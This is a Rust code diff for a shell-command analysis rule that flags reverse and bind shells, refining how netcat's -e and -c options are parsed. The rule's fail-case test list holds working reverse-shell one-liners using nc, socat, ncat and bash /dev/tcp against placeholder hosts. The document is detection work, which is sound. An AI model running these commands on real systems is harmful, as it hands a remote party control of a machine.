@@ -4,6 +4,7 @@ use std::collections::BTreeSet;
 
 use crate::declare_rule;
 use crate::graph::{FlowEdge, FlowNode};
+use crate::model::opts::value_word;
 use crate::model::{Command, RedirectOp, is_shell};
 use crate::rules::util::route;
 use crate::rules::{Cx, Finding, Rule};
@@ -35,8 +36,8 @@ declare_rule! {
     hermes: [],
     programs: [],
     summary: "A shell is handed to a network peer (reverse or bind shell)",
-    pass: ["nc -zv host 22", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "timeout 1 bash -c '</dev/tcp/host/22'", "ncat -l 8080"],
-    fail: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'bash' -l 4444", "socat TCP:h:4444 EXEC:/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i 2>&1 | nc h 4444", "exec 5<>/dev/tcp/h/80", "netcat -c bash h 4444", "socat tcp-l:4444 system:sh"],
+    pass: ["nc -zv host 22", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "timeout 1 bash -c '</dev/tcp/host/22'", "ncat -l 8080", "nc -lvnp 4444", "nc -w 5 -p 1234 h 80"],
+    fail: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'bash' -l 4444", "socat TCP:h:4444 EXEC:/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i 2>&1 | nc h 4444", "exec 5<>/dev/tcp/h/80", "netcat -c bash h 4444", "socat tcp-l:4444 system:sh", "nc -lvp 4444 -e /bin/bash", "nc -nve/bin/sh h 4444"],
 }
 
 fn dev_net(t: &str) -> bool {
@@ -48,27 +49,23 @@ fn hands_over(cmd: &Command) -> Option<String> {
     let args = cmd.arg_texts();
     match name {
         Some("nc" | "netcat" | "ncat" | "nc.traditional" | "nc.openbsd" | "busybox-nc") => {
-            for (i, a) in args.iter().enumerate() {
-                let exec_long = ["--exec", "--sh-exec", "--lua-exec"]
-                    .iter()
-                    .any(|o| a == o || a.starts_with(&format!("{o}=")));
-                let exec_short = a.starts_with('-')
-                    && !a.starts_with("--")
-                    && (a.contains('e') || a.contains('c'));
-                if exec_long || exec_short {
-                    let prog = if a.contains('=') {
-                        a.split_once('=').map(|x| x.1.to_string())
-                    } else {
-                        args.get(i + 1).cloned()
-                    };
-                    return Some(format!(
-                        "{} {a} hands `{}` to the network peer",
-                        name.unwrap_or("nc"),
-                        prog.unwrap_or_default()
-                    ));
-                }
-            }
-            None
+            // `-e PROG`, `-c CMD`, `--exec=PROG`, as nc's grammar reads them: in a bundle
+            // (`-ve sh`), attached (`-e/bin/sh`); `-p 4444` is a port.
+            let x = cmd
+                .opts
+                .named(&["e", "c", "exec", "sh-exec", "lua-exec"])
+                .next()?;
+            let a = cmd
+                .args()
+                .get(x.word)
+                .map(|w| w.shown())
+                .unwrap_or_default();
+            let prog = value_word(cmd.args(), x).map(|w| w.shown());
+            Some(format!(
+                "{} {a} hands `{}` to the network peer",
+                name.unwrap_or("nc"),
+                prog.unwrap_or_default()
+            ))
         }
         Some("socat") => args
             .iter()
